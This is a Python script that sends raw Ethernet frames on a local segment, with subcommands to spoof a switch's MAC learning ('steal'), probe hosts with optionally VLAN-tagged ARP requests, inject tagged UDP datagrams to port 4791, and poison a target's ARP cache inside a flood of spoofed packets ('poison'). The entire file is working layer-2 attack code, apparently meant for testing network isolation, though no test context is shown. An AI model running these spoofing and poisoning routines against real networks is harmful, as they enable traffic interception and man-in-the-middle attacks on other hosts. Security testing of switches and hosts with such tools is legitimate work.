#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Sends frames of one host on a segment, by a packet socket: frames.py INTERFACE COMMAND ARGUMENTS...

steal MAC          sends two frames from MAC to an unused address, so that a switch learns MAC at this port
arp ADDRESS TARGET [TAG]   sends an ARP request for TARGET from ADDRESS, optionally tagged; prints "answered" or "silent"
mad ADDRESS TARGET MAC TAG   sends a tagged datagram of zeros to UDP port 4791
poison ADDRESS TARGET MAC ROUNDS   claims ADDRESS to TARGET, which has MAC, within a flood of datagrams and requests
"""
import socket
import struct
import sys


def packed(address):
    return socket.inet_aton(address)


def ethernet(to, source, kind, payload, tag=None):
    head = to + source
    if tag is not None:
        head += struct.pack("!HH", 0x8100, tag)
    return (head + struct.pack("!H", kind) + payload).ljust(60, b"\0")


def mac_of(text):
    return bytes.fromhex(text.replace(":", ""))


def own_mac(interface):
    with open(f"/sys/class/net/{interface}/address") as file:
        return mac_of(file.read().strip())


def steal(sock, _, mac):
    for _ in range(2):
        sock.send(ethernet(b"\x02\x77\0\0\0\x01", mac_of(mac), 0x88B5, b""))


def arp(sock, interface, address, target, tag=None):
    own = own_mac(interface)
    body = struct.pack("!HHBBH", 1, 0x800, 6, 4, 1) + own + packed(address) + bytes(6) + packed(target)
    sock.settimeout(1)
    for _ in range(3):
        sock.send(ethernet(b"\xff" * 6, own, 0x806, body, None if tag is None else int(tag, 0)))
        try:
            while True:
                frame = sock.recv(2048)
                if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\2" and frame[28:32] == packed(target):
                    print("answered")
                    return
        except socket.timeout:
            pass
    print("silent")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(address, target):
    udp = struct.pack("!HHHH", 49152, 4791, 8 + 32, 0) + bytes(32)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + packed(address) + packed(target)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def mad(sock, interface, address, target, mac, tag):
    sock.send(ethernet(mac_of(mac), own_mac(interface), 0x800, datagram(address, target), int(tag, 0)))


def claim(operation, own, address, target, mac):
    body = struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + own + packed(address) + mac + packed(target)
    return ethernet(mac, own, 0x806, body)


def poison(sock, interface, address, target, mac, rounds):
    own, mac = own_mac(interface), mac_of(mac)
    flood = [ethernet(mac, own, 0x800, datagram(f"192.0.2.{host}", target)) for host in range(100, 160)]
    flood += [claim(1, own, f"192.0.2.{host}", target, mac) for host in range(100, 160)]
    for _ in range(int(rounds)):
        for frame in flood:
            sock.send(frame)
        sock.send(claim(2, own, address, target, mac))
        sock.send(claim(1, own, address, target, mac))


def main():
    interface, command = sys.argv[1:3]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.bind((interface, 0))
    {"steal": steal, "arp": arp, "mad": mad, "poison": poison}[command](sock, interface, *sys.argv[3:])


main()
